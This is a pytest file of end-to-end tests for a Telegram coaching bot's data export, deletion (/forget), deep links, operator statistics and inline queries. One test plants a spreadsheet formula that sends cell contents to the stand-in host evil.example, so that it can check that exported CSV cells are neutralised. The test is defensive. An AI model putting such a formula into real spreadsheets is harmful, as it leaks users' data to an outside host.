"""Your data end to end: /export sends exactly your records, /forget leaves nothing of you
in any table while someone else's data stays; deep links; /stats for operators only."""

from __future__ import annotations

import csv
import io
import json
import sqlite3
import threading
from datetime import timedelta

import pytest

from bot.privacy import export
from tests.db import table_names
from tests.harness import Clock, Person, RunningBot
from tests.test_journal_e2e import walk_a_call

ADMIN = 8299


@pytest.fixture
async def bot(stub, db_path, clock: Clock):
    running = RunningBot(stub, db_path, clock, admin_ids=frozenset({ADMIN}))
    await running.start()
    yield running
    await running.stop()


def document(stub, person: Person, name: str) -> bytes:
    message = next(
        m for m in person.messages if m.content.get("document", {}).get("file_name") == name
    )
    return stub.state.documents[(person.id, message.message_id)].data


def personal_rows(db_path, user_id: int) -> dict[str, int]:
    """Rows of a person in every table that has a `user_id`, read from SQLite itself."""
    with sqlite3.connect(db_path) as db:
        tables = table_names(db)
        counts = {}
        for table in tables:
            columns = {row[1] for row in db.execute(f"PRAGMA table_info({table})")}
            if "user_id" in columns:
                (n,) = db.execute(
                    f"SELECT COUNT(*) FROM {table} WHERE user_id = ?", (user_id,)
                ).fetchone()
                counts[table] = n
    return counts


async def test_export_holds_exactly_that_person_s_records(stub, bot):
    ella, finn = Person(stub, 8201), Person(stub, 8202)
    await walk_a_call(ella, "счёт выставлен дважды", "вернём деньги")
    await ella.types("Клиент А")
    await walk_a_call(finn, "чужая тайна", "чужое обещание")
    await ella.types("/tip")
    await ella.types("/export")
    exported = json.loads(document(stub, ella, "coach-data.json"))
    assert exported["user_id"] == ella.id
    tables = exported["tables"]
    assert [c["complaint"] for c in tables["calls"]] == ["счёт выставлен дважды"]
    assert tables["calls"][0]["client_label"] == "Клиент А"
    assert len(tables["tip_history"]) == 1 and tables["reminders"]
    assert "чужая" not in json.dumps(exported, ensure_ascii=False)
    assert all(row["user_id"] == ella.id for rows in tables.values() for row in rows)
    calls = calls_sheet(stub, ella)
    assert calls[0]["Жалоба"] == "счёт выставлен дважды" and calls[0]["Клиент"] == "Клиент А"


def calls_sheet(stub, person: Person) -> list[dict[str, str]]:
    """The exported calls as a spreadsheet reads them: one dict per row, by header."""
    text = document(stub, person, "coach-calls.csv").decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text)))


@pytest.mark.parametrize(
    ("kazakh", "expected"),
    [
        (
            False,
            {
                "Когда": "2026-11-23 08:00",
                "Клиент": "ТОО Алма",
                "Жалоба": "акт не подписан",
                "Чья ошибка": "Ошибка наша",
                "Обещание": "пришлём акт завтра",
                "Обещание выполнено?": "",
                "Чем закончился звонок": "доведён до конца",
            },
        ),
        (
            True,
            {
                "Қашан": "2026-11-23 10:00",
                "Клиент": "ТОО Алма",
                "Шағым": "акт не подписан",
                "Кімнің қатесі": "Біздің қате",
                "Уәде": "пришлём акт завтра",
                "Уәде орындалды ма?": "",
                "Қоңырау немен аяқталды": "соңына дейін жеткізілді",
            },
        ),
    ],
)
async def test_the_exported_calls_table_reads_in_the_person_s_language(stub, bot, kazakh, expected):
    """A person opens the CSV in a spreadsheet: its headers and the coded cells (whose
    fault, how the call ended) are words in the language they chose in the bot, and the
    time is their own (Moscow's for Russian, Almaty's for Kazakh by default), not UTC."""
    olga = Person(stub, 8212 if kazakh else 8211)
    await walk_a_call(olga, "акт не подписан", "пришлём акт завтра")
    await olga.types("ТОО Алма")
    if kazakh:
        await olga.types("/language")  # Telegram says Russian; the person chose Kazakh
    await olga.types("/export")
    (call,) = calls_sheet(stub, olga)
    assert {header: call[header] for header in expected} == expected
    assert "ours" not in call.values() and "done" not in call.values()


async def test_forget_leaves_nothing_of_the_person_in_any_table(stub, bot, db_path):
    gala, hugo = Person(stub, 8203, "kk"), Person(stub, 8204)
    await walk_a_call(hugo, "сайт лежит", "поднимем к вечеру")
    await gala.types("/daily")
    await gala.taps("🕘")
    await gala.taps("09:00")
    await gala.types("/tip")
    await gala.types("/call")
    before = personal_rows(db_path, gala.id)
    assert before["users"] == 1 and before["dialogs"] >= 2 and before["subscriptions"] == 1
    hugo_before = personal_rows(db_path, hugo.id)
    await gala.types("/forget")
    assert gala.last.text.startswith("Бот сіз туралы сақтаған барлық деректі өшіресіз бе")
    await gala.taps("Иә, бәрін өшіру")
    assert gala.last.text.startswith("Дайын: сіз туралы бәрі өшірілді.")
    assert "күннің кеңесі: 1" in gala.last.text
    assert all(n == 0 for n in personal_rows(db_path, gala.id).values())
    assert personal_rows(db_path, hugo.id) == hugo_before


async def test_a_formula_in_the_calls_table_is_shown_not_run(stub, bot):
    """Complaints are pasted from the client's own message, and the CSV is opened in Excel:
    a cell starting with = + - @ is marked as text with a leading apostrophe."""
    olga = Person(stub, 8213)
    formula = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    await walk_a_call(olga, formula, "@all перезвоним")
    await olga.types("+7 900 123-45-67")
    await olga.types("/export")
    (call,) = calls_sheet(stub, olga)
    assert call["Жалоба"] == "'" + formula
    assert call["Обещание"] == "'@all перезвоним" and call["Клиент"] == "'+7 900 123-45-67"
    exported = json.loads(document(stub, olga, "coach-data.json"))
    assert exported["tables"]["calls"][0]["complaint"] == formula, "the JSON is the data itself"


async def test_an_old_forget_question_deletes_nothing(stub, bot, db_path, clock):
    """A "yes" left in the chat (or pressed by mistake much later) says it expired; a
    button of the old form, without the time it was asked, is refused all the same."""
    ivan = Person(stub, 8214)
    await ivan.types("/tip")
    await ivan.types("/forget")
    question = ivan.last
    clock.advance(timedelta(minutes=11))
    await ivan.taps("Да, удалить всё", message_id=question.message_id)
    assert ivan.last.text.startswith("Этот вопрос устарел — ничего не удалено.")
    assert personal_rows(db_path, ivan.id)["tip_history"] == 1
    await ivan.types("/history")
    query_id = await stub.press_raw(ivan.id, ivan.last.message_id, "fg:0:yes")
    await stub.wait_for_answer(query_id)
    await stub.wait_idle()
    assert ivan.last.text.startswith("Этот вопрос устарел")
    assert personal_rows(db_path, ivan.id)["tip_history"] == 1


async def test_forget_says_deleted_only_when_something_was(stub, bot, db_path):
    """Twice in a row: the second time only the profile the press itself wrote was there."""
    lena = Person(stub, 8215)
    await lena.types("/tip")
    for expected in ("Готово: всё о вас удалено.", "Удалять было нечего"):
        await lena.types("/forget")
        await lena.taps("Да, удалить всё")
        assert lena.last.text.startswith(expected), lena.last.text
    assert all(n == 0 for n in personal_rows(db_path, lena.id).values())


async def test_forget_can_be_declined(stub, bot, db_path):
    ivan = Person(stub, 8205)
    await ivan.types("/tip")
    await ivan.types("/forget")
    await ivan.taps("Нет, оставить")
    assert ivan.last.text == "Хорошо, ничего не удалено."
    assert personal_rows(db_path, ivan.id)["tip_history"] == 1


@pytest.mark.parametrize(
    ("payload", "expected"),
    [
        ("call", "1/5"),
        ("s_non_payment", "📘 Клиент не платит"),
        ("check", "Оставить клиента или расстаться?"),
        ("tip", "💡 Совет"),
        ("s_no_such_thing", "Здравствуйте"),
        ("%%garbage%%", "Здравствуйте"),
    ],
)
async def test_each_deep_link_lands_on_its_screen(stub, bot, payload, expected):
    jana = Person(stub, 8206)
    await jana.types(f"/start {payload}")
    assert any(m.text.startswith(expected) for m in jana.messages), [m.text for m in jana.messages]


async def test_stats_answers_an_operator_and_reveals_nothing_to_anyone_else(stub, bot):
    kim, admin = Person(stub, 8207), Person(stub, ADMIN)
    await walk_a_call(kim, "тайная жалоба Кима", "тайное обещание")
    await kim.types("/stats")
    assert kim.last.text == "Такой команды нет. Все команды — /help."
    await admin.types("/stats")
    stats = admin.last.text
    assert stats.startswith("📊 Сводка") and "Звонки: начато 1, доведено до конца 1" in stats
    assert "тайн" not in stats and str(kim.id) not in stats
    menu = [c["command"] for c in stub.commands(None, "ru")]
    assert "stats" not in menu and {"history", "export", "forget"} <= set(menu)


@pytest.mark.inline_mode
@pytest.mark.parametrize(
    ("language_code", "query", "expected"),
    [
        ("ru", "извин", "Приношу извинения"),
        ("ru", "плат", "Клиент не платит"),
        ("kk", "кешірім", "Кешірім"),
        ("kk", "төле", "Клиент төлемейді"),
    ],
)
async def test_an_inline_query_lists_matching_phrases_telegram_accepts(
    stub, bot, language_code, query, expected
):
    stub.add_user(8208, language_code=language_code)
    query_id = await stub.send_inline_query(8208, query)
    await stub.wait_idle()
    answer = stub.state.inline_answers[query_id]
    results = answer["results"]
    assert results and len(results) <= 50 and answer["is_personal"] is True
    shown = " ".join(r["title"] + " " + r["input_message_content"]["message_text"] for r in results)
    assert expected.lower() in shown.lower(), shown[:500]


@pytest.mark.inline_mode
async def test_an_empty_inline_query_lists_the_default_dozen_and_cards_offer_the_list(stub, bot):
    mila = Person(stub, 8209)
    query_id = await stub.send_inline_query(mila.id, "")
    await stub.wait_idle()
    assert len(stub.state.inline_answers[query_id]["results"]) == 12
    await mila.types("/call")
    keyboard = mila.card.reply_markup["inline_keyboard"]
    assert keyboard[-1][0]["text"] == "💬 Фразы для чата с клиентом"
    assert "switch_inline_query_chosen_chat" in keyboard[-1][0]


async def test_a_playbook_page_shares_its_own_link(stub, bot):
    nora = Person(stub, 8210)
    await nora.types("/start s_non_payment")
    share = nora.card.reply_markup["inline_keyboard"][-1][0]
    assert share["text"] == "🔗 Поделиться разбором"
    assert "start%3Ds_non_payment" in share["url"] and "stub_bot" in share["url"]


def seed_calls(db_path, user_id: int, count: int) -> None:
    """Many stored calls at once, as years of use leave them (written beside the bot)."""
    with sqlite3.connect(db_path) as db:
        db.executemany(
            """INSERT INTO calls (user_id, call_no, started_at, updated_at, timezone,
                                  complaint, outcome)
               VALUES (?, ?, '2026-11-01T09:00:00+00:00', '', 'UTC', ?, 'done')""",
            [(user_id, n, f"жалоба номер {n} " + "х" * 300) for n in range(1, count + 1)],
        )


async def test_a_large_export_comes_in_parts_below_the_limit_each_whole(
    stub, bot, db_path, monkeypatch
):
    """Past the upload limit the files go in numbered parts, each a whole JSON document
    or spreadsheet, together holding every row; rows are read and written in batches."""
    monkeypatch.setattr(export, "PART_BYTES", 20_000)
    monkeypatch.setattr(export, "BATCH", 7)
    writers: set[int] = set()
    original = export.JsonParts.row

    def row(self, value):
        writers.add(threading.get_ident())
        original(self, value)

    monkeypatch.setattr(export.JsonParts, "row", row)
    ivan = Person(stub, 8221)
    await ivan.types("/start")
    seed_calls(db_path, ivan.id, 120)
    await ivan.types("/export")
    names = [m.content["document"]["file_name"] for m in ivan.messages if "document" in m.content]
    parts = [n for n in names if n.startswith("coach-data-")]
    sheets = [n for n in names if n.startswith("coach-calls-")]
    assert len(parts) > 2 and len(sheets) > 2 and "coach-data.json" not in names
    calls, sheet_rows = [], []
    for number, name in enumerate(parts, start=1):
        data = document(stub, ivan, name)
        assert len(data) <= 20_000
        part = json.loads(data)
        assert part["user_id"] == ivan.id and part["part"] == number
        calls += part["tables"].get("calls", [])
    for name in sheets:
        data = document(stub, ivan, name)
        assert len(data) <= 20_000
        sheet_rows += list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))
    assert [c["call_no"] for c in calls] == list(range(1, 121))
    assert [r["Жалоба"].split(" х")[0] for r in sheet_rows] == [
        f"жалоба номер {n}" for n in range(1, 121)
    ]
    assert "export_rowid" not in calls[0]
    assert threading.main_thread().ident not in writers, "formatted off the event loop"
